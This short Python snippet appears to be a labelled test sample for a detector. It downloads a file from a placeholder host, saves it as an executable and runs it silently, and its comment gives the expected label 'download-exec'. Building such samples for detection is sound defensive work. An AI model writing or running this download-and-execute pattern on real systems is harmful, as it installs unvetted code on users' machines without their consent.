# copied from the response into a temporary file, run by the file's name
import shutil
import subprocess
import tempfile
import urllib.request

with urllib.request.urlopen("https://example.org/tool") as r, \
        tempfile.NamedTemporaryFile(delete=False, suffix=".exe") as f:
    shutil.copyfileobj(r, f)
subprocess.call([f.name, "/quiet"])  # expect: download-exec
